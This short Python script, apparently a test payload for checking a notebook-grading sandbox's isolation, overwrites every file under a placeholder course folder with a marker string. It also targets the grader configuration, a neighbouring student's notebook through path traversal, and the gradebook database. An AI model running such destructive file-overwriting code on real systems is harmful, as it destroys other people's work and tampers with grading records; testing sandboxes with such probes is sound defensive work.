import contextlib
import os

for folder, _, files in os.walk("__COURSE__"):
    for file in files:
        with contextlib.suppress(OSError), open(os.path.join(folder, file), "w") as target:
            target.write("overwritten 7351")
for path in (
    "__COURSE__/nbgrader_config.py",
    "__NEIGHBOUR__/ex01.ipynb",
    "../../neighbour/ex01.ipynb",
    "../gradebook.db",
):
    with contextlib.suppress(OSError):
        os.makedirs(os.path.dirname(path), exist_ok=True)
        open(path, "w").write("overwritten 7351")
